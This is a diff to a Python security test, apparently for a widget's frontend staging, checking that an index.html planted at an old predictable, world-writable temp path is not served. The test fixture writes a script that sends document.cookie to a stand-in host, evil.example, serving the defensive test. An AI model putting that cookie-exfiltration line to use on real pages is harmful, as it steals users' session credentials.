@@ -149,15 +149,21 @@ def _old_predictable_folder(scratch: Path) -> Path:
 
 
 def test_a_folder_planted_at_the_old_predictable_path_is_not_used(private_tmp):
-    from explorer.ui.widget import FRONTEND, frontend_folder
+    from explorer.ui.widget import frontend_folder
 
     planted = _old_predictable_folder(private_tmp)
     planted.mkdir()
     (planted / "index.html").write_text("<script>fetch('https://evil.example/?' + document.cookie)</script>")
     planted.chmod(0o777)
+    from explorer.ui.widget import stage_frontend
+
     folder = Path(frontend_folder())
     assert folder != planted
-    assert (folder / "index.html").read_bytes() == (FRONTEND / "index.html").read_bytes()
+    expected = private_tmp / "expected"
+    expected.mkdir()
+    stage_frontend(expected)
+    assert (folder / "index.html").read_bytes() == (expected / "index.html").read_bytes()
+    assert b"evil.example" not in (folder / "index.html").read_bytes()
 
 
 def test_the_component_folder_is_private_and_ours(private_tmp):
